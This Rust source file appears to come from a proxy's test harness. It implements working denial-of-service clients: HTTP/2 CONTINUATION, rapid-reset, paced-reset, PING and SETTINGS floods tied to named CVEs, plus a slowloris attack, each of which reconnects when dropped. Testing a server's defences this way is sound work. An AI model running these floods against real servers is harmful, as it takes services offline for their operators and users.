//! Clients that attack: floods of HTTP/2 frames, written by hand because no library would send them, and slow HTTP/1 heads.
//!
//! Each runs inside a host on a thread of its own, ends by itself, and begins a new connection whenever the proxy ends one, as an
//! attacker would.

use std::fmt;
use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::thread::JoinHandle;
use std::time::Duration;

use anyhow::{Context as _, anyhow};
use weft_cli::world::{Host, Stopwatch, is_interrupted, pause};

/// How an attacker goes about it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    /// Streams that are reset in groups as large as the proxy bears, so that each is begun.
    PacedReset,
    /// Questions whether it is still there.
    Ping,
    /// Streams that are reset as fast as they are opened (CVE-2023-44487).
    RapidReset,
    /// Settings, each to be acknowledged (CVE-2019-9515).
    Settings,
    /// Some hundred connections with a head of which a line comes now and then (slowloris).
    SlowHeads,
}

impl Flood {
    /// All of them.
    pub const ALL: [Self; 6] =
        [Self::Continuation, Self::PacedReset, Self::Ping, Self::RapidReset, Self::Settings, Self::SlowHeads];

    /// Whether it speaks HTTP/2.
    pub fn is_http2(self) -> bool {
        self != Self::SlowHeads
    }
}

impl fmt::Display for Flood {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Continuation => "CONTINUATION flood",
            Self::PacedReset => "paced reset",
            Self::Ping => "PING flood",
            Self::RapidReset => "rapid reset",
            Self::Settings => "SETTINGS flood",
            Self::SlowHeads => "slow heads",
        })
    }
}

/// What an attacker did, and what was done to it.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Flooded {
    /// Bytes that the proxy took.
    pub bytes: u64,
    /// Connections that were opened.
    pub connections: u64,
    /// Connections that the proxy ended.
    pub ended: u64,
}

impl fmt::Display for Flooded {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self { bytes, connections, ended } = self;
        write!(f, "{bytes} bytes on {connections} connections, {ended} of them ended by the proxy")
    }
}

/// An attacker at work.
#[derive(Debug)]
pub struct Flooding(JoinHandle<anyhow::Result<Flooded>>);

impl Flooding {
    /// Begins a flood that ends by itself after `length`. `prepare` runs first, on the thread that attacks.
    ///
    /// # Errors
    /// The thread could not be started.
    pub fn start(
        host: &Host,
        to: SocketAddr,
        flood: Flood,
        length: Duration,
        prepare: impl FnOnce() -> anyhow::Result<()> + Send + 'static,
    ) -> anyhow::Result<Self> {
        let host = host.clone();
        let attack = move || {
            host.run(|| {
                prepare()?;
                if flood == Flood::SlowHeads { slow_heads(to, length) } else { frames(to, flood, length) }
            })?
        };
        let thread = std::thread::Builder::new().name("flood".to_owned()).spawn(attack);
        Ok(Self(thread.context("starting a flood")?))
    }

    /// Waits for its end.
    ///
    /// # Errors
    /// It could not even connect.
    pub fn finish(self) -> anyhow::Result<Flooded> {
        self.0.join().map_err(|_panic| anyhow!("the flood panicked"))?
    }
}

/// Longest that a connection may take to be opened.
const CONNECT_MAX: Duration = Duration::from_secs(5);
/// About how much is written at once.
const BATCH_BYTES: usize = 16 * 1024;

fn frames(to: SocketAddr, flood: Flood, length: Duration) -> anyhow::Result<Flooded> {
    let (watch, mut flooded) = (Stopwatch::start(), Flooded::default());
    while watch.elapsed() < length && !is_interrupted() {
        let stream = TcpStream::connect_timeout(&to, CONNECT_MAX).context("a flood connecting")?;
        stream.set_nodelay(true)?;
        stream.set_nonblocking(true)?;
        flooded.connections += 1;
        let mut attack = Attack { stream, flood, authority: to.to_string(), next_stream: 1, acks: 0 };
        let ended = attack.run(&mut flooded.bytes, || watch.elapsed() >= length || is_interrupted());
        flooded.ended += u64::from(ended);
    }
    Ok(flooded)
}

/// One connection of a flood.
struct Attack {
    stream: TcpStream,
    flood: Flood,
    authority: String,
    next_stream: u32,
    /// Acknowledged PINGs so far.
    acks: u64,
}

impl Attack {
    /// Attacks until the time is up; `true`: the proxy ended it before.
    fn run(&mut self, bytes: &mut u64, is_over: impl Fn() -> bool) -> bool {
        let mut out = Vec::with_capacity(2 * BATCH_BYTES);
        out.extend_from_slice(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
        frame(&mut out, SETTINGS, 0, 0, &[]);
        if self.flood == Flood::Continuation {
            // A head that has begun.
            frame(&mut out, HEADERS, 0, 1, &self.head());
        }
        let (mut written, mut answers, mut owed) = (0, Answers::default(), 0);
        loop {
            if written == out.len() {
                if is_over() {
                    return false;
                }
                out.clear();
                written = 0;
                if self.acks >= owed {
                    owed += u64::from(self.flood == Flood::PacedReset);
                    self.batch(&mut out);
                }
            }
            let wrote = match self.stream.write(out.get(written..).unwrap_or_default()) {
                Ok(count) => count,
                Err(error) if error.kind() == ErrorKind::WouldBlock => 0,
                Err(_ended) => return true,
            };
            written += wrote;
            *bytes += u64::try_from(wrote).unwrap_or(0);
            match self.hear(&mut answers) {
                Ok(0) if wrote == 0 => {
                    if is_over() || pause(Duration::from_millis(1)).is_err() {
                        return false;
                    }
                }
                Ok(_) => {}
                Err(_ended) => return true,
            }
        }
    }

    /// Reads what is there: a flood that reads nothing would be held up by its own answers.
    fn hear(&mut self, answers: &mut Answers) -> std::io::Result<usize> {
        let mut piece = [0; BATCH_BYTES];
        match self.stream.read(&mut piece) {
            Ok(0) => Err(ErrorKind::UnexpectedEof.into()),
            Ok(read) => {
                self.acks += answers.pings(piece.get(..read).unwrap_or_default());
                Ok(read)
            }
            Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(0),
            Err(error) => Err(error),
        }
    }

    fn batch(&mut self, out: &mut Vec<u8>) {
        match self.flood {
            Flood::Continuation => {
                // Literal fields without indexing, `x: y` (RFC 7541 §6.2.2).
                let fields = [0, 1, b'x', 1, b'y'].repeat(200);
                while out.len() < BATCH_BYTES {
                    frame(out, CONTINUATION, 0, 1, &fields);
                }
            }
            Flood::PacedReset => {
                let first = self.next_stream;
                for _ in 0..PACED_STREAMS {
                    self.open(out);
                }
                for stream in (first..self.next_stream).step_by(2) {
                    reset(out, stream);
                }
                // Its answer says that the group was read.
                frame(out, PING, 0, 0, &[0; 8]);
            }
            Flood::Ping => {
                while out.len() < BATCH_BYTES {
                    frame(out, PING, 0, 0, &[0; 8]);
                }
            }
            Flood::RapidReset => {
                while out.len() < BATCH_BYTES {
                    let stream = self.next_stream;
                    self.open(out);
                    reset(out, stream);
                }
            }
            Flood::Settings => {
                while out.len() < BATCH_BYTES {
                    frame(out, SETTINGS, 0, 0, &[]);
                }
            }
            Flood::SlowHeads => {}
        }
    }

    fn open(&mut self, out: &mut Vec<u8>) {
        let head = self.head();
        frame(out, HEADERS, END_STREAM | END_HEADERS, self.next_stream, &head);
        self.next_stream += 2;
    }

    /// `GET /`, by the static table, with an authority of its own (RFC 7541 §6.1, §6.2.2).
    fn head(&self) -> Vec<u8> {
        let mut block = vec![0x82, 0x86, 0x84, 0x01, u8::try_from(self.authority.len()).unwrap_or(0)];
        block.extend_from_slice(self.authority.as_bytes());
        block
    }
}

/// Below the proxy's bound on streams that are reset before it looked at them.
const PACED_STREAMS: u32 = 48;

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const ACK: u8 = 0x1;
/// CANCEL.
const CANCEL: u32 = 0x8;
/// Bytes before a frame's payload (RFC 9113 §4.1).
const FRAME_HEAD_BYTES: usize = 9;

fn reset(out: &mut Vec<u8>, stream: u32) {
    frame(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
}

/// Writes one frame of HTTP/2.
pub fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let [_, high, middle, low] = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    out.extend_from_slice(&[high, middle, low, kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// Takes apart what comes back, as far as PINGs are to be counted.
#[derive(Debug, Default)]
struct Answers {
    head: Vec<u8>,
    /// What is left of a frame's payload.
    rest: usize,
}

impl Answers {
    /// How many acknowledged PINGs begin in a piece.
    fn pings(&mut self, mut piece: &[u8]) -> u64 {
        let mut pings = 0;
        while !piece.is_empty() {
            let skipped = self.rest.min(piece.len());
            self.rest -= skipped;
            piece = piece.get(skipped..).unwrap_or_default();
            let missing = (FRAME_HEAD_BYTES - self.head.len()).min(piece.len());
            self.head.extend_from_slice(piece.get(..missing).unwrap_or_default());
            piece = piece.get(missing..).unwrap_or_default();
            if let &[high, middle, low, kind, flags, ..] = self.head.as_slice()
                && self.head.len() == FRAME_HEAD_BYTES
            {
                self.rest = usize::try_from(u32::from_be_bytes([0, high, middle, low])).unwrap_or(0);
                pings += u64::from(kind == PING && flags & ACK != 0);
                self.head.clear();
            }
        }
        pings
    }
}

/// Connections that a slow attacker holds.
const SLOW_CONNECTIONS: usize = 300;
/// How often each sends a line.
const SLOW_EVERY: Duration = Duration::from_secs(1);

fn slow_heads(to: SocketAddr, length: Duration) -> anyhow::Result<Flooded> {
    let (watch, mut flooded) = (Stopwatch::start(), Flooded::default());
    let mut streams: Vec<TcpStream> = Vec::with_capacity(SLOW_CONNECTIONS);
    while watch.elapsed() < length && !is_interrupted() {
        while streams.len() < SLOW_CONNECTIONS {
            let mut stream = TcpStream::connect_timeout(&to, CONNECT_MAX).context("a slow client connecting")?;
            stream.write_all(format!("GET / HTTP/1.1\r\nhost: {to}\r\n").as_bytes())?;
            stream.set_nonblocking(true)?;
            flooded.connections += 1;
            streams.push(stream);
        }
        pause(SLOW_EVERY.min(length))?;
        streams.retain_mut(|stream| {
            let open = stream.write_all(b"x: y\r\n").is_ok()
                && matches!(stream.read(&mut [0; 512]), Err(error) if error.kind() == ErrorKind::WouldBlock);
            flooded.ended += u64::from(!open);
            flooded.bytes += if open { 6 } else { 0 };
            open
        });
    }
    Ok(flooded)
}

#[cfg(test)]
mod tests {
    use super::{Answers, PING, SETTINGS, frame};

    #[test]
    fn answered_pings_are_counted_in_pieces_of_any_size() {
        let mut bytes = Vec::new();
        for _ in 0..3 {
            frame(&mut bytes, SETTINGS, 0, 0, &[0; 6]);
            frame(&mut bytes, PING, 1, 0, &[7; 8]);
            frame(&mut bytes, PING, 0, 0, &[7; 8]);
        }
        for size in 1..bytes.len() {
            let mut answers = Answers::default();
            assert_eq!(bytes.chunks(size).map(|piece| answers.pings(piece)).sum::<u64>(), 3, "{size}");
        }
    }
}
